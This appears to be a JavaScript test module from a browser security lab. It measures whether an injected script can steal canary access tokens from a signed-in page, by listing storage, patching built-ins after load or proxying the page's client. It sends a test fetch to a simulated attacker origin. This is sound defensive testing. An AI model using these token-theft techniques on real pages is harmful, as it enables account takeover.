// @ts-check
// A script that comes into a page in which somebody is signed in already: what can it take, now and from then on?
import { byWhich, fromWhich, inWords, TOKEN_KINDS } from './canaries.mjs'
import { isWithin, said } from './said.mjs'
import { listTokens, perform, renew } from './stage.mjs'

/** @typedef {import('./stage.mjs').LabPage} LabPage */
/** @typedef {import('./stage.mjs').Stage} Stage */
/** @typedef {{ attack: string, said: string, got: string, ok: boolean }} Row */
/** @typedef {{ page: LabPage, stage: Stage, readable: import('./said.mjs').Readable }} Scene */

// In what the sample API answers.
const ORDER = 'Brass coat hook'
// What the attacker's server must hear: the page's policy lets it through.
const CONTROL = "{ headers: { authorization: 'Bearer control' } }"

/** @param {Scene} scene @returns {Promise<Row[]>} */
export async function listRows({ page, stage, readable }) {
  const { kinds, places } = await listTokens(page, stage)
  const worth = kinds.includes('access_token')
    ? `; elsewhere it is answered ${await stage.useOutside(stage.canaries.latest().access_token)}`
    : ''
  return [
    {
      attack: 'T-BROWSER-01 single theft: all that can be listed',
      said: said(readable, 'listed'),
      got: `${inWords(kinds)}${fromWhich(places)}${worth}`,
      ok: isWithin(readable, 'listed', kinds),
    },
  ]
}

/** @param {Scene} scene @returns {Promise<Row[]>} */
export async function lieRows({ page, stage }) {
  const { evil, site, canaries } = stage
  evil.take()
  const addresses = { evil: evil.origin, plainEvil: evil.plainOrigin, api: site.settings.apis[0] }
  /** @type {Record<string, string>} */
  const results = await perform(page, `hostile.tellLies(${JSON.stringify(addresses)})`)
  await page.evaluate(`fetch('${evil.origin}/control', ${CONTROL}).then(() => true)`)
  const received = evil.take()
  const isListening = received.some((text) => text.includes('Bearer control'))
  const kinds = canaries.kindsIn(received.join('\n'))
  const paths = received.filter((text) => canaries.kindsIn(text).length > 0)
  const where = paths.map((text) => text.split(' ')[1] ?? '')
  const tried = Object.keys(results).length
  return [
    {
      attack: `T-BROWSER-02 another address: ${tried} ways to say it`,
      said: 'stopped',
      got: `${inWords(kinds)}${where.length > 0 ? `, at ${where.join(', ')}` : ''}`,
      ok: kinds.length === 0 && tried > 0 && isListening,
    },
  ]
}

/** What somebody without tokens can do with the page's client. @param {Scene} scene @returns {Promise<Row[]>} */
export async function proxyRows({ page }) {
  const { status, text } = await page.evaluate("lab.call('orders')")
  const isAnswered = status === 200 && text.includes('orders')
  return [
    {
      attack: 'T-BROWSER-02 proxying: calls by the page itself',
      said: 'not stopped',
      got: isAnswered ? "the person's orders" : 'nothing',
      ok: isAnswered,
    },
  ]
}

/**
 * Patches what is there, uses the client once, and waits for new tokens. Rows come once the recorder is stopped.
 * @param {Scene} scene
 */
export async function watchUse({ page, stage }) {
  await page.evaluate("hostile.begin('call'), hostile.patch()")
  await page.evaluate("lab.call('orders')")
  const before = stage.canaries.count()
  await page.evaluate("void hostile.begin('renewal')")
  await renew(page, stage)
  return before
}

/**
 * @param {Scene} scene
 * @param {number} before How many answers had been issued before the renewal.
 * @returns {Promise<Row[]>}
 */
export async function watchedRows(scene, before) {
  const { page, stage, readable } = scene
  const single = await seenBy(scene, 'call', 0)
  const persistent = await seenBy(scene, 'renewal', before)
  const listed = await listTokens(page, stage, before)
  const row = (
    /** @type {string} */ attack,
    /** @type {Awaited<ReturnType<typeof seenBy>>} */ seen,
  ) => ({
    attack: `T-BROWSER-01 ${attack}`,
    said: said(readable, 'patched'),
    got: `${inWords(seen.kinds)}${byWhich(seen.names)}`,
    ok: isWithin(readable, 'patched', seen.kinds) && seen.isHearing,
  })
  const isFetch = [...single.names, ...persistent.names].includes('fetch')
  return [
    row('single theft: built-ins patched after load, the next call', single),
    row('persistent theft: built-ins patched after load, a renewal', persistent),
    {
      attack: 'T-BROWSER-01 fetch alone, patched after load',
      said: 'stopped: the client has its own',
      got: isFetch ? 'tokens' : 'nothing',
      ok: !isFetch,
    },
    {
      attack: 'T-BROWSER-01 persistent theft: all that can be listed after a renewal',
      said: said(readable, 'listed'),
      got: `${inWords(listed.kinds)}${fromWhich(listed.places)}`,
      ok: isWithin(readable, 'listed', listed.kinds),
    },
  ]
}

/**
 * Which tokens went through patched built-ins, and through which of them.
 * @param {Scene} scene
 * @param {string} phase
 * @param {number} from
 */
export async function seenBy({ page, stage }, phase, from) {
  /** @type {import('./canaries.mjs').Kind[]} */
  const kinds = []
  /** @type {Set<string>} */
  const names = new Set()
  await page.evaluate('void hostile.stop()')
  for (const kind of TOKEN_KINDS) {
    const forms = JSON.stringify(stage.canaries.formsOf(kind, from))
    /** @type {string[]} */
    const by = await page.evaluate(`hostile.find(${forms}, '${phase}')`)
    if (by.length > 0) kinds.push(kind)
    for (const name of by) names.add(name)
  }
  // What the page itself is answered goes through them in any case: without that they are deaf.
  const isHearing = await page.evaluate(`hostile.find(['${ORDER}'], 'renewal').length > 0`)
  return { kinds, names: [...names], isHearing }
}
